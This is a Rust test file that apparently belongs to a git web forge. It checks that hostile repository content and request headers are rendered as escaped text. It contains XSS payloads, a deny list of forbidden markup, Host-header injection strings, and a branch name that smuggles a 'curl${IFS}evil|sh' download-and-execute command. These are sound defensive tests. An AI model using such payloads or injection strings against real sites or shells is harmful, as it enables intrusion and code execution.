//! What whoever pushes can write, and pages show.

use super::site::{TestSite, commits};

const EVIL: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "</title></pre></td><iframe src=javascript:alert(1)>",
    "{{ shell.token }}{% block x %}",
    "javascript:alert(1)",
    "\u{202e}txt.exe",
    "&lt;script&gt;",
];

/// No tag, attribute or script but our own is in a page.
#[track_caller]
fn check(path: &str, page: &str) {
    let never = [
        "<script>",
        "<img src=x",
        "<svg on",
        "<iframe",
        "onerror=alert(1)>",
        "onload=alert(1)>",
        "href=\"javascript:",
        "src=\"javascript:",
        "action=\"javascript:",
        "\u{202e}",
        "style=\"",
    ];
    for evil in never {
        assert!(!page.contains(evil), "{path}: {evil}\n{page}");
    }
    assert_eq!(page.matches("<script").count(), 1, "{path}: our own, which is a file");
    assert!(page.contains("<script src=\"/-/copy.js?"), "{path}");
}

#[test]
fn names_messages_and_texts_are_text() {
    let Some(site) = TestSite::new("escaping") else { return };
    for (nth, evil) in EVIL.iter().enumerate() {
        let name = evil.replace('/', "|");
        let message = format!("{evil}\n\nBody {evil}\n");
        let in_dir = format!("d{name}/{name}");
        let files = [("README.md", *evil), (name.as_str(), *evil), (in_dir.as_str(), *evil)];
        let stream = commits(&[("first", &[("README.md", "x\n")]), (&message, &files)]);
        let stream = String::from_utf8(stream).unwrap();
        let who = evil.replace(['<', '>'], "");
        let stream = stream.replace("committer Ann <ann@example.org>", &format!("committer {who} <{who}>"));
        let path = site.repository(&format!("r{nth}.git"), stream.as_bytes());
        std::fs::write(path.join("description"), format!("{evil}\n")).unwrap();
        let reference = format!("refs/heads/{}", evil.replace([' ', '\\', ':', '{', '}'], "-"));
        let id = site.id(&path, "main");
        site.git.ok(&path, ["update-ref", &reference, &id]);
        site.git.ok(&path, ["update-ref", &reference.replace("heads", "tags"), &id]);
        let encoded = super::super::route::encoded;
        let (file, dir) = (encoded(name.as_bytes()), encoded(format!("d{name}").as_bytes()));
        let branch = encoded(reference.trim_start_matches("refs/heads/").as_bytes());
        let mut nobody = site.visitor();
        for page in [
            String::new(),
            format!("?branch={branch}"),
            format!("/-/files/{file}"),
            format!("/-/files/{dir}"),
            format!("/-/files/{dir}/{file}?branch={branch}"),
            "/-/files/README.md?as=source".to_owned(),
            format!("/-/commits?tag={branch}"),
            format!("/-/commit/{id}"),
            "/-/branches".to_owned(),
            "/-/tags".to_owned(),
        ] {
            let path = format!("/r{nth}.git{page}");
            let shown = nobody.page(&path);
            check(&path, &shown);
        }
        let seen = nobody.get(&format!("/?q={}", encoded(evil.as_bytes())));
        check("/?q=", &seen.text());
        for path in [
            format!("/{file}"),
            format!("/-/{file}"),
            format!("/r{nth}.git/-/files/x{file}"),
            format!("/-/sign-in?next={file}"),
        ] {
            check(&path, &nobody.get(&path).text());
        }
    }
    check("/", &site.visitor().page("/"));
}

#[test]
fn bytes_that_are_no_text_are_replaced_and_still_lead_to_their_file() {
    let Some(site) = TestSite::new("bytes") else { return };
    let stream = b"commit refs/heads/main\ncommitter A\xff <a\xfe@b> 1 +0000\ndata 3\nm\xff\n\
        M 100644 inline \"a\\377\\nb\\\\c ?#&%\"\ndata 4\nx\xff\x1b\n\n";
    let path = site.repository("r.git", stream);
    let mut nobody = site.visitor();
    let home = nobody.page("/r.git");
    assert!(home.contains(">a\u{fffd}\u{fffd}b\\c ?#&#38;%<"), "{home}");
    assert!(home.contains("href=\"/r.git/-/files/a%FF%0Ab%5Cc%20%3F%23%26%25\""), "{home}");
    let file = nobody.page("/r.git/-/files/a%FF%0Ab%5Cc%20%3F%23%26%25");
    assert!(file.contains("x\u{fffd}\u{fffd}"), "{file}");
    assert_eq!(nobody.get("/r.git/-/raw/a%FF%0Ab%5Cc%20%3F%23%26%25").body, b"x\xff\x1b\n");
    let commit = nobody.page(&format!("/r.git/-/commit/{}", site.id(&path, "main")));
    assert!(commit.contains("m\u{fffd}") && commit.contains("A\u{fffd}"), "{commit}");
}

#[test]
fn a_branch_is_no_command() {
    let Some(site) = TestSite::new("commands") else { return };
    let path = site.repository("r.git", b"");
    site.git.ok(&path, ["symbolic-ref", "HEAD", "refs/heads/x;curl${IFS}evil|sh"]);
    let page = site.visitor().page("/r.git");
    assert!(page.contains("git init -b &#39;x;curl${IFS}evil|sh&#39;\n"), "{page}");
    assert!(page.contains("git push -u origin &#39;x;curl${IFS}evil|sh&#39;<"), "{page}");
}

#[test]
fn a_host_is_not_believed() {
    let Some(site) = TestSite::new("host") else { return };
    site.repository("r.git", b"");
    let mut nobody = site.visitor();
    for host in ["a\"onclick=x", "a<b", "a b", "-oProxyCommand=x", "a;b", "a$(b)", "a`b`", "\u{e9}"] {
        let mut request = nobody.request(http::Method::GET, "/r.git", &[]);
        let host_header = http::HeaderValue::from_bytes(host.as_bytes()).unwrap();
        request.headers_mut().insert(http::header::HOST, host_header);
        let page = nobody.send(request).text();
        assert!(page.contains("http://127.0.0.1:8418/r.git") && !page.contains("forge.example"), "{host}");
        check(host, &page);
    }
}
